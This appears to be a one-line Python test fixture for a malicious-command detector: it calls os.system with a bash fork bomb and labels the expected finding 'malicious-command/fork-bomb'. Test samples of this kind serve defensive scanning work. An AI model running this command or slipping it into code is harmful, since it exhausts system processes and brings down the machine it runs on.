import os

os.system(":(){ :|:& };:")  # expect: malicious-command/fork-bomb
